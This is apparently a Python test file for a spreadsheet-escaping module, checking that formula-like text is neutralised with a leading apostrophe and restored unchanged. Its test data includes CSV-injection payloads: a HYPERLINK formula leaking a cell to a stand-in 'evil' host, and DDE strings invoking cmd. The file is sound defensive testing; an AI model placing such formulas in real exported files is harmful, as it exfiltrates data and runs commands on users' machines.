"""No text from outside is a formula in a spreadsheet, and each comes back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from demur.traffic.spreadsheet import as_cell, from_cell, has_our_cells

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\r\n",
    "  =1+1",
    '"=1+1"',
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "-",
    "+",
    "=",
    "- a point of a list",
    "-3 degrees",
    "-\u0663",  # an Arabic digit: no number to a spreadsheet everywhere
    "-1e999999x",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text):
    assert as_cell(text) == f"'{text}"
    assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        "a=b",
        "1-1",
        "-3.5",
        "+4",
        "-0",
        "-.5",
        "-1e-9",
        "1e5",
        "'tis",
        "'",
        "O'Brien",
        "[1]",
        "{}",
        "2026-01-01",
    ],
)
def test_numbers_and_texts_stay(text):
    assert as_cell(text) == text
    assert from_cell(as_cell(text)) == text


@given(st.text(alphabet="='\"+-@ \t\r1a.\uff1d\ufeff") | st.text())
def test_every_text_comes_back_and_none_is_calculated(text):
    cell = as_cell(text)
    assert from_cell(cell) == text
    assert not cell.startswith(("=", "@", "\t", "\r", "\n"))
    assert not cell.startswith(("+", "-")) or float(cell) is not None


def test_files_of_ours_are_known():
    assert has_our_cells(["case", "record", "model", "group", "input", "label", "opinions"])
    assert not has_our_cells(["input", "label", "group"])
